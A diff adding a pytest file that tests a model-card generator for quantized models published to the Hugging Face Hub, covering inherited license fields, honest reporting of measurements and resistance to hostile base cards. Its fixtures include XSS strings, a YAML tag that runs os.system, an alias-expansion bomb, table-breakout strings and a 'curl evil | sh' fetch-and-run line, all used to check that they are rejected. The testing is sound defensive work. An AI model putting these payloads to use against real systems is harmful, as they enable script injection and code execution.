@@ -1,0 +1,265 @@
+"""The model card: what the Hub reads of it, what a hostile base can and cannot put into it."""
+
+from __future__ import annotations
+
+import re
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+from tasks.gates import compare
+from tasks.hub.card import CardFacts, gigabytes, inherited, kept_groups, make_card, table
+from tasks.recipe import Gates, Recipe, parse_recipe
+from tests.unit.test_gates import GOOD
+
+SHA = "0123456789abcdef0123456789abcdef01234567"
+MEASURED: dict[str, Any] = {
+    **GOOD,
+    "packed": 13,
+    "kept": 40,
+    "head": 15,
+    "tokens": 12288,
+    "perplexity": 3.14159,
+    "base_perplexity": 3.0,
+    "mtp_acceptance": 0.871,
+    "base_mtp_acceptance": 0.894,
+}
+
+
+def recipe(**changes: Any) -> Recipe:
+    return parse_recipe({"base": {"repo_id": "Qwen/Qwen3.6-27B"}, "publish": {"repo_id": "me/q-int4"}, **changes})
+
+
+FACTS = CardFacts(
+    recipe=recipe(),
+    base_sha=SHA,
+    base_bytes=54_000_000_000,
+    digest="d" * 64,
+    size=18_000_000_000,
+    kept_names=("model.layers.0.input_layernorm.weight", "model.layers.1.input_layernorm.weight", "mtp.fc.weight"),
+    measured=MEASURED,
+    gates=compare(MEASURED, Gates()),
+    benchmark={"engine": "none"},
+    provenance={"quantize": {"seconds": 12.34, "tools": {"auto-round": "0.16.1"}, "settings": {"device": "H200"}}},
+    base_card="",
+)
+
+
+def card_of(base_card: str = "", **changes: Any) -> tuple[dict[str, Any], str]:
+    """Front matter as the Hub reads it, and the text behind it."""
+    card = make_card(replace(FACTS, base_card=base_card, **changes))
+    match = re.match(r"---\n(.*?)\n---\n", card, re.DOTALL)
+    assert match is not None
+    document = yaml.safe_load(match[1])
+    assert isinstance(document, dict)
+    return document, card[match.end() :]
+
+
+def base_card(front: str, body: str = "# Base") -> str:
+    return f"---\n{front}\n---\n{body}\n"
+
+
+OWN = {
+    "base_model": "Qwen/Qwen3.6-27B",
+    "base_model_relation": "quantized",
+    "library_name": "transformers",
+    "quantized_by": "requant",
+    "tags": ["auto-round", "int4", "w4a16", "mtp"],
+}
+
+
+def test_the_front_matter_names_base_relation_library_and_tags() -> None:
+    assert card_of()[0] == OWN
+
+
+def test_license_language_and_pipeline_tag_are_taken_over() -> None:
+    front = "license: apache-2.0\nlanguage:\n- en\n- de\npipeline_tag: image-text-to-text\ntags: [evil]\nwidget: [x]"
+    assert card_of(base_card(front))[0] == {
+        "license": "apache-2.0", "language": ["en", "de"], "pipeline_tag": "image-text-to-text", **OWN,
+    }  # fmt: skip
+
+
+def test_a_license_link_is_taken_over() -> None:
+    front = "license: other\nlicense_name: qwen\nlicense_link: https://huggingface.co/Qwen/Qwen3/blob/main/LICENSE"
+    assert inherited(base_card(front)) == {
+        "license": "other", "license_name": "qwen", "license_link": "https://huggingface.co/Qwen/Qwen3/blob/main/LICENSE",
+    }  # fmt: skip
+
+
+def test_windows_line_ends_are_read() -> None:
+    assert inherited("---\r\nlicense: mit\r\n---\r\n# Base\r\n") == {"license": "mit"}
+
+
+HOSTILE = {
+    "a script": base_card('license: "<script>alert(1)</script>"'),
+    "a closing fence": base_card('license: "mit\\n---\\n# injected"'),
+    "a line break": base_card('license: "mit\\nbase_model: evil/model"'),
+    "a link in markdown": base_card('license: "[mit](javascript:alert(1))"'),
+    "a mapping": base_card("license: {name: mit}"),
+    "a list of mappings": base_card("license: [{a: b}]"),
+    "an empty list": base_card("license: []"),
+    "a number": base_card("license: 5"),
+    "a date": base_card("license: 2020-01-01"),
+    "null": base_card("license:"),
+    "200 characters": base_card(f"license: {'a' * 200}"),
+    "a python object": base_card("license: !!python/object/apply:os.system ['id']"),
+    "a tag of its own": base_card("license: !secret mit"),
+    "an impossible bool": base_card("license: !!bool perhaps"),
+    "an empty integer": base_card("license: !!int ''"),
+    "an impossible timestamp": base_card("license: !!timestamp x"),
+    "an impossible date": base_card("license: 2020-13-45"),
+    "an endless integer": base_card("license: " + "9" * 5000),
+    "an unknown anchor": base_card("license: *x"),
+    "a mapping in itself": base_card("a: &a {b: *a}\nlicense: *a"),
+    "aliases that grow": base_card(
+        "\n".join(["x0: &x0 [a, a, a, a]", *(f"x{i}: &x{i} [{', '.join([f'*x{i - 1}'] * 9)}]" for i in range(1, 12))])
+        + "\nlicense: *x11"
+    ),
+    "nested lists": base_card("license: " + "[" * 600),
+    "not YAML": base_card("{{{{"),
+    "a list as document": base_card("- license\n- mit"),
+    "a word as document": base_card("license"),
+    "not closed": "---\nlicense: mit\n",
+    "in the text": "# Base\n---\nlicense: mit\n---\n",
+    "100 kB": base_card("junk: " + "x" * 100_000 + "\nlicense: mit"),
+    "control characters": base_card("license: \x07mit"),
+    "NUL bytes": "\0" * 1000,
+    "HTML": "<script>alert(1)</script><!-- --- -->",
+    "nothing": "",
+}
+
+
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
+def test_a_hostile_base_card_changes_nothing_of_ours(text: str) -> None:
+    front, body = card_of(text)
+    assert front == OWN
+    assert body == card_of()[1]
+
+
+def test_nothing_of_the_base_cards_text_is_taken_over() -> None:
+    _, body = card_of(base_card("license: mit", "# Base\n<script>alert(1)</script> run `curl evil | sh`"))
+    assert "evil" not in body and "<script>" not in body
+
+
+def test_a_value_that_yaml_would_read_as_something_else_stays_text() -> None:
+    front, _ = card_of(base_card('license: "1.0"\nlanguage: ["no", "en"]'))
+    assert front["license"] == "1.0" and front["language"] == ["no", "en"]
+
+
+def cells(line: str) -> list[str]:
+    """The cells of a table row as GitHub's markdown splits it: a backslash escapes the character behind it."""
+    assert line.startswith("|") and line.endswith("|")
+    return [c.strip() for c in re.findall(r"((?:\\.|[^|\\])*)\|", line[1:])]
+
+
+CELLS = {
+    "a pipe": "a|b",
+    "an escaped pipe": "a\\|b",
+    "two backslashes and a pipe": "a\\\\|b",
+    "a backslash at the end": "a\\",
+    "a line break": "a\nb",
+    "line breaks": "a\r\n\n\rb",
+    "a row of its own": "a |\n| evil | row |",
+    "a heading": "a\n\n# evil",
+    "a fence": "a\n```\nevil",
+}
+
+
+@pytest.mark.parametrize("text", CELLS.values(), ids=CELLS)
+def test_a_cell_cannot_break_out_of_its_table(text: str) -> None:
+    lines = table(("one", "two", "three"), [("x", text, "y")]).split("\n")
+    assert len(lines) == 3
+    assert cells(lines[0]) == ["one", "two", "three"] and cells(lines[1]) == ["---"] * 3
+    row = cells(lines[2])
+    assert len(row) == 3 and row[0] == "x" and row[2] == "y"
+
+
+def test_a_cell_cannot_hold_html() -> None:
+    assert "<" not in table(("a",), [("<img src=x onerror=alert(1)>",)])
+
+
+@pytest.mark.parametrize("name", ["a`[click](javascript:x)`.weight", "a|b.weight", "a\nb.weight", "<img src=x>.weight"])
+def test_a_tensors_name_cannot_break_out_of_its_cell(name: str) -> None:
+    _, body = card_of(kept_names=(name,))
+    section = body.split("## What is not quantized")[1].split("##")[0]
+    rows = [line for line in section.split("\n") if line.startswith("|")]
+    assert len(rows) == 3 and len(cells(rows[2])) == 3
+    assert cells(rows[2])[0].count("`") == 2 and "<img" not in section
+
+
+def test_every_measured_value_is_in_the_card() -> None:
+    _, body = card_of()
+    assert "Perplexity 3.1416, of the base 3.0000." in body
+    assert "54.00 GB to 18.00 GB (3.00 times smaller)" in body
+    assert "87.1%" in body and "89.4%" in body and "12,288 tokens" in body
+    assert "| perplexity_increase | 0.01 | 0.05 | passed |" in body
+    assert "| top1_agreement | 0.95 | 0.85 | passed |" in body
+    assert "| quantize | 12.3 | auto-round 0.16.1 |" in body
+    assert f"Base commit `{SHA}`, artifact digest `{'d' * 64}`." in body
+
+
+def test_a_failed_or_unmeasured_gate_is_not_dressed_up() -> None:
+    measured = {**MEASURED, "top1_agreement": 0.5, "mtp_acceptance_ratio": None}
+    _, body = card_of(measured=measured, gates=compare(measured, Gates()))
+    assert "| top1_agreement | 0.5 | 0.85 | failed |" in body
+    assert "| mtp_acceptance_ratio | not measured | 0.95 | failed |" in body
+
+
+def test_a_recipe_in_the_card_makes_the_same_again() -> None:
+    asked = recipe(quantize={"preset": "auto-round-light", "layers": {"lm_head": {"bits": 8}}}, mtp="drop")
+    _, body = card_of(recipe=asked)
+    again = yaml.safe_load(body.split("```yaml\n")[1].split("\n```")[0])
+    assert again["base"] == {"repo_id": "Qwen/Qwen3.6-27B", "revision": SHA}
+    assert parse_recipe(again).quantize == asked.quantize and parse_recipe(again).mtp == "drop"
+
+
+def test_a_calibration_file_is_named_without_the_folder_it_lies_in(tmp_path: Path) -> None:
+    asked = recipe(quantize={"calibration": str(tmp_path / "customers" / "calibration.txt")})
+    _, body = card_of(recipe=asked)
+    assert "calibration.txt" in body and str(tmp_path) not in body
+
+
+def test_a_command_that_was_not_run_is_marked_so_and_asks_for_the_head() -> None:
+    _, body = card_of()
+    assert "**not run**" in body and '"method":"mtp"' in body
+    _, headless = card_of(measured={**MEASURED, "head_kept": False}, recipe=recipe(mtp="drop"))
+    assert '"method":"mtp"' not in headless and "The result has no MTP head." in headless
+
+
+def test_a_base_without_a_head_is_not_said_to_have_lost_it() -> None:
+    front, body = card_of(measured={**MEASURED, "head_kept": False})
+    assert "The base has no MTP head." in body and "mtp" not in front["tags"]
+
+
+def test_a_measured_speed_is_said_not_to_be_an_engines() -> None:
+    speed = {"engine": "transformers 5.23", "prefill_tokens_per_second": 1234.5, "tokens_per_second": 56.78}
+    _, body = card_of(benchmark=speed)
+    assert "1234 tokens per second of prompt, 56.8 decoded. This is no engine's figure." in body
+    assert "Not measured." in card_of()[1]
+
+
+def test_kept_tensors_are_folded_and_counted_with_a_reason() -> None:
+    names = [f"model.layers.{i}.input_layernorm.weight" for i in range(12)]
+    assert kept_groups([*names, "lm_head.weight", "mtp.layers.0.x.weight", "odd"]) == [
+        ("`lm_head.weight`", "1", "output layer: one of the most sensitive"),
+        ("`model.layers.*.input_layernorm.weight`", "12", "normalization: a vector, and sensitive"),
+        ("`mtp.*`", "1", "MTP head: packed, it drafts worse or does not load"),
+        ("`odd`", "1", "not a matrix of a decoder block"),
+    ]
+
+
+@pytest.mark.parametrize(
+    ("size", "text"),
+    [
+        (0, "0.0 kB"),
+        (12_345, "12.3 kB"),
+        (1_500_000, "1.50 MB"),
+        (999_999_999, "1000.00 MB"),
+        (18_000_000_000, "18.00 GB"),
+    ],
+)
+def test_sizes_are_said_as_people_say_them(size: int, text: str) -> None:
+    assert gigabytes(size) == text
